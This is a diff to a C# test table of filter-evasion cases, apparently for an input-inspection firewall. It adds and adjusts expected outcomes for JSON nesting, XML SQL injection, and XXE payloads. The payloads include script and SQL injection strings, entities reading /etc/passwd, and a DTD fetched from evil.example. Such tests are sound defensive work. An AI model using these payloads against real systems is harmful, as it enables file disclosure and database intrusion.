@@ -189,7 +189,7 @@ internal static class EvasionTable
         yield return new(Group, "attack deep inside",
             Json("{\"a\":" + new string('[', 40) + "\"" + Script + "\"" + new string(']', 40) + "}"), "blocked");
         yield return new(Group, "nested beyond the limit",
-            Json(new string('[', 200) + "1" + new string(']', 200)), "blocked");
+            Json(new string('[', 300) + "1" + new string(']', 300)), "refused");
         yield return new(Group, "text behind the document", Json($$"""{"q":1} {"q":"{{Script}}"}"""), "blocked");
         yield return new(Group, "single quotes", Json("{'q':'" + Sql + "'}"), "blocked");
         yield return new(Group, "comments in JSON", Json($$"""{/**/"q":"{{Script}}"}"""), "blocked");
@@ -200,7 +200,13 @@ internal static class EvasionTable
         yield return new(Group, "XML character references",
             Xml("<a>&#60;script&#62;alert(1)&#60;/script&#62;</a>"), "blocked");
         yield return new(Group, "text split by elements", Xml("<a>1' union <b/>select 1,2-- </a>"), "blocked");
-        yield return new(Group, "attack in an attribute", Xml("<a b=\"1' union select 1,2-- \"/>"), "passed");
+        yield return new(Group, "attack in an attribute", Xml("<a b=\"1' union select 1,2-- \"/>"), "blocked");
+        yield return new(Group, "attack in an entity of the document",
+            Xml("<!DOCTYPE a [<!ENTITY x \"1' union select 1,2-- \">]><a>&x;</a>"), "blocked");
+        yield return new(Group, "external entity behind a quote in an instruction",
+            Xml("<!DOCTYPE a [<?p ' ?><!ENTITY x SYSTEM \"file:///etc/passwd\"><?p ' ?>]><a>&x;</a>"), "blocked");
+        yield return new(Group, "document type from elsewhere",
+            Xml("<!DOCTYPE a SYSTEM \"http://evil.example/x.dtd\"><a/>"), "blocked");
         yield return new(Group, "external entity",
             Xml("<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><a>&x;</a>"), "blocked");
         yield return new(Group, "entity bomb",
